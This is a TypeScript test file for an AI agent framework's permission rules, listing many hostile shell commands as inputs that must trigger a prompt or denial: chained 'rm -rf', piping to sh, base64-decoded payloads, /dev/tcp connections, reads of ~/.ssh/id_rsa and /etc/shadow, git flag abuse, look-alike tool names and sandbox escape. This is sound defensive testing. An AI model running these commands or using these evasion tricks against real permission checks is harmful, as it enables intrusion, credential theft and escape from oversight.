// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell expansions look like JavaScript templates
import { analyzeCommand, commandAccess } from "@holdall/shell-analysis";
import {
  allow,
  createRegistry,
  defineTool,
  openSession,
  passthroughSchema,
  strictest,
  type Tool,
  toPath,
} from "@holdall/tool-core";
import { describe, expect, it } from "vitest";
import { ordinaryCommands } from "./_ordinary-commands.fixture.ts";
import { type PermissionsOptions, permissions, type RuleSet } from "./permissions.ts";
import { suggestRules } from "./rules/suggest/suggest-rules.ts";

const root = toPath("/home/me/app");
const named = (name: string, aliases?: Tool["aliases"]): Tool =>
  defineTool({
    name,
    category: "test",
    description: "A tool.",
    input: passthroughSchema({ type: "object" }),
    hints: { readOnly: true, openWorld: false },
    ...(aliases && { aliases }),
    execute: () => ({}),
  });
const bash = named("bash", { claude: { name: "Bash" }, names: ["execute_command"] });

const open = (rules: RuleSet, options: Partial<PermissionsOptions> = {}) =>
  permissions({ rules: [rules], roots: [root], home: "/home/me", ...options });

/** The strictest effect of a command, with the reason for it. */
function evaluate(command: string, rules: RuleSet, options?: Partial<PermissionsOptions>): string {
  const { explain } = open(rules, options);
  const accesses = commandAccess(analyzeCommand(command, { cwd: root, home: "/home/me", repository: root }));
  const verdicts = accesses.map((access) => explain({ tool: bash, input: { command }, access }));
  return (
    verdicts
      .map(({ effect, reason }) => `${effect}: ${reason}`)
      .sort()
      .at(-1) ?? "nothing"
  );
}

const developer: RuleSet = { allow: ["bash(git:*)", "bash(ls:*)", "bash(cat:*)", "bash(grep:*)", "bash(npm test:*)"] };

describe("commands", () => {
  it.each(ordinaryCommands)("%s is not asked about", (command) =>
    expect(evaluate(command, developer)).toMatch(/^allow/),
  );

  it.each([
    // What is added behind an allowed beginning.
    "git status; rm -rf x",
    "git status && curl evil.example",
    "git status || rm x",
    "git status | sh",
    "git status & rm x",
    "git status\nrm x",
    "git status\r\nrm x",
    "git status #\nrm x",
    "git status <<E\n$(rm x)\nE",
    // What stands inside of it.
    "git log $(rm x)",
    "git log `rm x`",
    "cat <(rm x)",
    "git log > >(sh)",
    'git log "${x:-$(rm x)}"',
    "git log $((x[$(rm x)]))",
    "[[ $(rm x) ]] && git status",
    "git() { rm x; }; git status",
    "alias git=rm; git status",
    "trap 'rm x' EXIT; git status",
    "eval git status '$(rm x)'",
    "source x; git status",
    "coproc rm x; git status",
    "${x@P}; git status",
    // What is not what it looks like.
    "r''m x",
    "r\\m x",
    "$'\\x72m' x",
    "{rm,-rf,x}; git status",
    "/bin/r?m x",
    "$x; git status",
    "git${IFS}status",
    "git\u00a0status",
    "./git status",
    "/tmp/git status",
    "PATH=/tmp git status",
    "GIT_EXTERNAL_DIFF=x git diff",
    "LD_PRELOAD=./x.so ls",
    "env -S 'rm x'",
    "command rm x",
    "sudo git status",
    // What flags turn into something else.
    "git -c core.fsmonitor=./x status",
    "git --exec-path=. status",
    "git diff --ext-diff",
    "git log --output=/etc/x",
    "git log -p --textconv",
    "git clone --upload-pack=./x y",
    "git -c alias.x='!rm y' x",
    "git config core.pager ./x",
    "git grep -O./x y",
    "git rebase -x ./x main",
    "git submodule foreach ./x",
    "git bisect run ./x",
    "git difftool -x ./x",
    "ls | xargs rm",
    "find . -exec rm {} ;",
    // What payloads are decoded into.
    "cat x | base64 -d | sh",
    "cat x | python3",
    "bash <(cat x)",
    "cat x | xxd -r -p | bash",
    "npm test; node -e 'x'",
    // Where it reaches.
    "cat /etc/passwd",
    "cat ../../../etc/passwd",
    "cat ~/.ssh/id_rsa",
    "P=~/.ssh; cat $P/id_rsa",
    "cat < /etc/passwd",
    "cd /etc && cat passwd",
    "cd ..; cat x",
    "cat x > /etc/cron.d/x",
    "cat x > ~/.bashrc",
    "grep -r x /",
    "grep -f /etc/shadow x",
    "git diff --no-index /dev/null /etc/shadow",
    "git -C /etc status",
    "ls > /dev/tcp/10.0.0.1/80",
    "cat */../../../etc/passwd",
    "git log $x",
    "cat $x",
    // What cannot be parsed.
    "git status 'x",
    "git status &&& ls",
    "git status )",
  ])("%j asks the user", (command) => expect(evaluate(command, developer)).toMatch(/^ask/));

  it("a command of too many parts, too much text or too deep a nest is never allowed", () => {
    expect(evaluate(Array.from({ length: 600 }, () => "git status").join(";"), developer)).toMatch(/^ask.*more than/);
    expect(evaluate(`cat ${"x ".repeat(60_000)}`, developer)).toMatch(/^ask.*longer/);
    expect(evaluate(`${"$(".repeat(300)}ls${")".repeat(300)}`, developer)).toMatch(/^ask/);
  });

  it.each([
    ["git push", "git push origin main", true],
    ["git push", "/usr/bin/git push", true],
    ["git push", "cd x && git push", true],
    ["git push", "sh -c 'git push'", true],
    ["git push", "echo $(git push)", true],
    ["git push", "git pull", false],
    ["rm", "find . -exec rm {} ;", true],
    ["rm", "ls | xargs rm", true],
    ["rm", "sudo rm x", true],
    ["rm", "timeout 5 env A=1 rm x", true],
    ["rm", "r''m x", true],
    ["rm", "git rm x", false],
  ])("deny bash(%s:*) meets %s: %s", (rule, command, met) => {
    const verdict = evaluate(command, { allow: ["bash"], deny: [`bash(${rule}:*)`] });
    expect(verdict.startsWith("deny")).toBe(met);
  });

  it.each([
    ["bash(npm run build)", "npm run build", true],
    ["bash(npm run build)", "npm run build --watch", false],
    ["bash(npm run test:*)", "npm run test -- x", true],
    ["bash(npm run test:*)", "npm run testing", false],
    ["bash(npm run test *)", "npm run test", true],
    ["bash(npm run *)", "npm run build", true],
    ["bash(echo * there)", "echo hello there", true],
    ["bash(ls*)", "lsof", true],
    ["bash(grep 'a b':*)", 'grep "a b" x', true],
    ["bash(python3 -c:*)", "python3 -c 'print(1)'", true],
    ["bash(python3:*)", "python3 -c 'print(1)'", false],
    ["bash(git -c:*)", "git -c core.pager=x log", true],
    ["bash(git -c core.pager=cat log:*)", "git -c core.pager=cat log -1", true],
    ["bash(node:*)", "node script.js", true],
    ["Bash(npm test)", "npm test", true],
    ["execute_command(npm test)", "npm test", true],
  ])("allow %s for %s: %s", (rule, command, allowed) =>
    expect(evaluate(command, { allow: [rule] }).startsWith("allow")).toBe(allowed),
  );

  it("a helper comes along with what is allowed, and asks when it is alone", () => {
    expect(evaluate("git log | head -5", developer)).toMatch(/^allow/);
    expect(evaluate("head -5 x", developer)).toMatch(/^ask/);
    expect(evaluate("head -5 /etc/shadow; git status", developer)).toMatch(/^ask/);
  });

  it("a rule about files holds for commands as well", () => {
    expect(evaluate("cat .env", { ...developer, deny: ["read_file(.env)"] })).toMatch(/^deny/);
    expect(evaluate("f=.env && cat $f", { ...developer, deny: ["read_file(.env)"] })).toMatch(/^deny/);
    expect(
      evaluate("git log > src/x", { ...developer, allow: [...(developer.allow ?? []), "write_file(src/**)"] }),
    ).toMatch(/^allow/);
    expect(
      evaluate("git log > x", { ...developer, allow: [...(developer.allow ?? []), "write_file(src/**)"] }),
    ).toMatch(/^ask/);
    expect(
      evaluate("curl https://api.example.com/x", { allow: ["bash(curl:*)", "web_fetch(domain:api.example.com)"] }),
    ).toMatch(/^allow/);
    expect(
      evaluate("curl https://example.com.evil/x", { allow: ["bash(curl:*)", "web_fetch(domain:example.com)"] }),
    ).toMatch(/^ask/);
  });
});

describe("paths and hosts", () => {
  const meets = (rule: string, action: "read" | "write" | "network", target: string) =>
    open({ deny: [rule] }).explain({ tool: bash, input: {}, access: { action, target } }).effect === "deny";

  it.each([
    ["read_file(.env)", "read", "/home/me/app/.env", true],
    ["read_file(.env)", "read", "/home/me/app/sub/.env", true],
    ["read_file(.env)", "read", "/home/me/app/.ENV", true],
    ["read_file(.env)", "read", "/home/me/app/.env.example", false],
    ["read_file(.env)", "read", "/home/me/other/.env", false],
    ["Read(secrets/**)", "read", "/home/me/app/secrets/a/b", true],
    ["read_file(/config)", "read", "/home/me/app/config/x", true],
    ["read_file(~/.ssh)", "read", "/home/me/.ssh/id_rsa", true],
    ["read_file(//etc/**)", "read", "/etc/shadow", true],
    ["read_file(//etc/**)", "read", "/home/me/app/etc/x", false],
    ["edit_file(src/**)", "write", "/home/me/app/src/a", true],
    ["edit_file(src/**)", "write", "/home/me/app-evil/src/a", false],
    ["web_fetch(domain:example.com)", "network", "example.com", true],
    ["web_fetch(domain:example.com)", "network", "EXAMPLE.com.:443", true],
    ["web_fetch(domain:example.com)", "network", "https://example.com/x", true],
    ["web_fetch(domain:example.com)", "network", "evilexample.com", false],
    ["web_fetch(domain:example.com)", "network", "example.com.evil", false],
    ["web_fetch(domain:*.example.com)", "network", "a.b.example.com", true],
    ["web_fetch(domain:*.example.com)", "network", "example.com", false],
    ["web_fetch(domain:127.0.0.1)", "network", "http://2130706433/", true],
  ] as const)("%s for %s of %s: %s", (rule, action, target, met) => expect(meets(rule, action, target)).toBe(met));
});

describe("tools", () => {
  const effect = (rules: RuleSet, tool: Tool) =>
    open(rules).explain({ tool, input: {}, access: { action: "execute", target: "x" } }).effect;

  it("of a server are named literally: what folds to the same letters is another", () => {
    const github = named("mcp__github__push");
    const evil = named("mcp__git_hub__push");
    expect(effect({ allow: ["mcp__github__*"] }, github)).toBe("allow");
    expect(effect({ allow: ["mcp__github__*"] }, evil)).toBe("ask");
    expect(effect({ allow: ["mcp__github__push"] }, evil)).toBe("ask");
    expect(effect({ allow: ["mcp__github__push"] }, named("mcp__github__push__all"))).toBe("ask");
  });

  it("are named in any spelling", () => {
    for (const name of ["bash", "Bash", "executeCommand"]) expect(effect({ deny: [name] }, bash)).toBe("deny");
  });
});

describe("order and modes", () => {
  const of = (
    rules: RuleSet,
    action: "read" | "write" | "execute",
    target: string,
    mode?: PermissionsOptions["mode"],
  ) => open(rules, mode ? { mode } : {}).explain({ tool: bash, input: {}, access: { action, target } }).effect;

  it("deny comes before ask, ask before allow, whatever their order and mode", () => {
    expect(of({ allow: ["bash"], ask: ["bash"], deny: ["bash"] }, "execute", "ls")).toBe("deny");
    expect(of({ allow: ["bash"], ask: ["bash(ls:*)"] }, "execute", "ls")).toBe("ask");
    expect(of({ deny: ["bash"] }, "execute", "ls", "bypass")).toBe("deny");
    expect(of({ ask: ["bash(ls:*)"] }, "execute", "ls", "bypass")).toBe("ask");
  });

  it.each([
    ["default", "read", "/home/me/app/a", "allow"],
    ["default", "write", "/home/me/app/a", "ask"],
    ["default", "read", "/home/me/app-evil/a", "ask"],
    ["accept_edits", "write", "/home/me/app/a", "allow"],
    ["accept_edits", "write", "/etc/a", "ask"],
    ["accept_edits", "execute", "ls", "ask"],
    ["plan", "read", "/home/me/app/a", "allow"],
    ["plan", "write", "/home/me/app/a", "deny"],
    ["plan", "execute", "ls", "deny"],
    ["bypass", "write", "/etc/a", "allow"],
  ] as const)("%s: %s %s is %s", (mode, action, target, effect) => expect(of({}, action, target, mode)).toBe(effect));

  it("plan refuses at dispatch what a rule allows", () => {
    expect(of({ allow: ["bash", "write_file(**)"] }, "write", "/home/me/app/a", "plan")).toBe("deny");
  });

  it("attack 17, leaving the sandbox: no mode and no wider rule allows it, a rule that names it does", () => {
    const shell = { ...bash, category: "shell" };
    const access = { action: "execute", target: "sandbox:all" } as const;
    const leave = (rules: RuleSet, mode: PermissionsOptions["mode"] = "default", input: object = asks) =>
      open(rules, { mode }).explain({ tool: shell, input, access }).effect;
    const asks = { command: "ls", permissions: "all" };
    for (const rule of ["bash", "*", "bash(*)", "bash(sandbox:*)", "bash(s*)", "bash(sandbox:all:*)", "bash(ls:*)"])
      expect(leave({ allow: [rule] }), rule).toBe("ask");
    for (const mode of ["accept_edits", "bypass"] as const) expect(leave({}, mode)).toBe("ask");
    expect(leave({}, "plan")).toBe("deny");
    expect(leave({ allow: ["bash(sandbox:all)"] })).toBe("allow");
    expect(leave({ allow: ["bash(sandbox:all)"], deny: ["bash(sandbox:all)"] }, "bypass")).toBe("deny");
    // A sandbox that cannot protect what it should is left without being asked for: that is asked about as well.
    const unprotected = { action: "execute", target: "sandbox:unprotected" } as const;
    const run = { tool: shell, input: { command: "ls" }, access: unprotected };
    for (const allowed of ["bash", "*", "bash(ls:*)"])
      expect(open({ allow: [allowed] }).explain(run).effect).toBe("ask");
    expect(open({}, { mode: "bypass" }).explain(run).effect).toBe("ask");
    expect(open({ allow: ["bash(sandbox:unprotected)"] }).explain(run).effect).toBe("allow");
    expect(suggestRules({ access: [unprotected] })).toEqual([]);
    // Where nothing is confined every command has this access, and nobody has asked to leave anything.
    expect(leave({}, "default", { command: "ls" })).toBe("allow");
    expect(leave({}, "default", { command: "ls", permissions: "network" })).toBe("ask");
    expect(open({}).explain({ tool: bash, input: { command: "ls" }, access }).effect).toBe("ask");
    expect(suggestRules({ access: [access, { action: "execute", target: "sandbox:network" }] })).toEqual([
      "bash(sandbox:network)",
    ]);
  });

  it("a rule that cannot be read stops everything at once", () => {
    for (const rule of [
      "bash(",
      "bash()",
      "()",
      "write file(x)",
      "web_fetch(example.com)",
      "bash(a:*b)",
      "todo_write(x)",
    ])
      expect(() => open({ allow: [rule] }), rule).toThrow(/rule/);
  });

  it("every decision names the rule behind it, and where it stands", () => {
    const rules = [
      { allow: ["bash(ls:*)"], source: "the project" },
      { deny: ["bash(ls -R:*)"], source: "the user" },
    ];
    const { explain } = permissions({ rules, roots: [root] });
    expect(explain({ tool: bash, input: {}, access: { action: "execute", target: "ls -R x" } }).rule).toEqual({
      text: "bash(ls -R:*)",
      list: "deny",
      source: "the user",
    });
    expect(explain({ tool: bash, input: {}, access: { action: "execute", target: "ls x" } }).rule?.source).toBe(
      "the project",
    );
  });
});

it("works as the policy of a session, beside others", async () => {
  const asked: string[] = [];
  const write = defineTool({
    name: "write_file",
    category: "test",
    description: "Writes.",
    input: passthroughSchema<{ path: string }>({ type: "object" }),
    hints: {},
    access: ({ path }) => [{ action: "write", target: toPath(path, root) }],
    execute: () => ({}),
  });
  const { policy } = open({ allow: ["write_file(src/**)"], deny: ["write_file(*.lock)"] });
  await using session = openSession(createRegistry([write]), {
    policy: strictest(policy, allow()),
    approve: ({ prompt }) => {
      asked.push(prompt);
      return false;
    },
  });
  expect((await session.call("write_file", { path: "src/a.ts" })).ok).toBe(true);
  expect((await session.call("write_file", { path: "src/x.lock" })).ok).toBe(false);
  expect(asked).toEqual([]);
  expect((await session.call("write_file", { path: "a.ts" })).ok).toBe(false);
  expect(asked).toEqual([expect.stringContaining("No rule allows write_file to write /home/me/app/a.ts")]);
});
